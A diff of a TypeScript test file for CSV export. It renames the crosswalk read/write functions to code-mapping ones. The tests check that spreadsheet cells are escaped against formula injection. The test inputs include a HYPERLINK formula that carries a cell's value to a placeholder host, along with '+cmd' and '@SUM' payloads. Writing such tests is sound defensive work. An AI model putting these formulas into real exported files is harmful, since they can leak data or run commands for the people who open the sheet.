@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { guarded, unguarded } from '../../lambdas/platform/spreadsheet.ts';
-import { readCrosswalkCsv, writeCrosswalkCsv } from '../../lambdas/posting/code-mapping/csv.ts';
+import { readCodeMappingCsv, writeCodeMappingCsv } from '../../lambdas/posting/code-mapping/csv.ts';
 
 describe('a cell that people open in a spreadsheet', () => {
   it.each(['=HYPERLINK("http://x"&A1)', '+cmd', '-1+1', '@SUM(A1)', '\t=1', "'=1"])(
@@ -22,9 +22,9 @@ describe('a cell that people open in a spreadsheet', () => {
 
   it('of the crosswalk neither carries anything out nor changes on its way through a file', () => {
     const line = { plant: 'oslo', kind: 'item' as const, code: '=1+1', odooCode: '@MILK' };
-    const text = writeCrosswalkCsv([line]);
+    const text = writeCodeMappingCsv([line]);
     expect(text).toContain("oslo,item,'=1+1,'@MILK\n");
-    const { lines, findings } = readCrosswalkCsv(Buffer.from(text), ['oslo']);
+    const { lines, findings } = readCodeMappingCsv(Buffer.from(text), ['oslo']);
     expect(findings).toEqual([]);
     expect(lines).toEqual([{ ...line, line: 2 }]);
   });
